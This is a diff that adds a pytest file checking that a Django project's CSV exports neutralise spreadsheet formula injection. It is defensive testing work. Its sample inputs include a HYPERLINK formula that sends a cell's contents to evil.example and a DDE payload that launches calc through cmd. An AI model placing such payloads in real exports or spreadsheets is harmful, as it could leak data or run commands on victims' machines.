@@ -1,0 +1,84 @@
+"""Every CSV the project serves goes through rekryt.lib.safecsv and
+neutralises spreadsheet formulas. A new CSV export fails
+`test_every_csv_export_is_known_here` until it has a test in this file."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+
+import pytest
+from django.urls import reverse
+
+from rekryt.audit.models import Action, AuditEntry
+from rekryt.lib.safecsv import neutralise
+from rekryt.surveys.tests.helpers import make_answer
+
+ROOT = Path(__file__).resolve().parents[2]  # the rekryt package
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "@SUM(A1:A9)", "-2", "\t=1+1"]
+# Module -> the URL names of the CSV exports it serves (each tested below).
+EXPORTS = {
+    "audit/views.py": {"audit_export"},
+    "surveys/staff_views.py": {"cnps_export"},
+}
+
+
+def source_files():
+    for path in sorted(ROOT.rglob("*.py")):
+        relative = path.relative_to(ROOT).as_posix()
+        if "/tests/" in f"/{relative}" or "/migrations/" in relative:
+            continue
+        yield relative, path.read_text(encoding="utf-8")
+
+
+def test_every_csv_export_is_known_here():
+    users = {name for name, text in source_files() if "csv_response(" in text}
+    users.discard("lib/safecsv.py")
+    assert users == set(EXPORTS), (
+        "A module serves CSV through csv_response that this test does not know (or one "
+        "stopped): add it to EXPORTS in rekryt/ops/tests/test_security_csv.py with a test "
+        f"that hostile cells come out neutralised. Found: {sorted(users)}"
+    )
+
+
+def test_no_csv_is_written_around_safecsv():
+    raw = re.compile(r"csv\.(writer|DictWriter)\(")
+    offenders = [name for name, text in source_files() if raw.search(text)]
+    assert offenders == ["lib/safecsv.py"], (
+        f"Write CSV with rekryt.lib.safecsv.csv_response, not csv.writer: {offenders}"
+    )
+
+
+@pytest.mark.parametrize("value", [*HOSTILE, "\r=1", "=cmd|' /C calc'!A0"])
+def test_neutralise_makes_each_formula_text(value):
+    assert neutralise(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["Anna", "", "1+1", "a=b", 42, -3, 1.5])
+def test_neutralise_leaves_ordinary_values(value):
+    assert neutralise(value) == value
+
+
+def rows(response):
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+def test_the_cnps_export_neutralises_formulas(client, rita, job):
+    for value in HOSTILE:
+        make_answer(7, job=job, comment=value)
+    client.force_login(rita)
+    comments = {row[5] for row in rows(client.get(reverse("cnps_export")))[1:]}
+    assert comments == {"'" + value for value in HOSTILE}
+
+
+def test_the_audit_export_neutralises_formulas(client, alice):
+    for value in HOSTILE:
+        AuditEntry.objects.create(action=Action.LOGIN_FAILED, summary=value, target_id=value[:40])
+    client.force_login(alice)
+    found = rows(client.get(reverse("audit_export"), {"action": "login_failed"}))[1:]
+    assert {row[5] for row in found} == {"'" + value for value in HOSTILE}
+    assert {row[4] for row in found} == {"'" + value[:40] for value in HOSTILE}
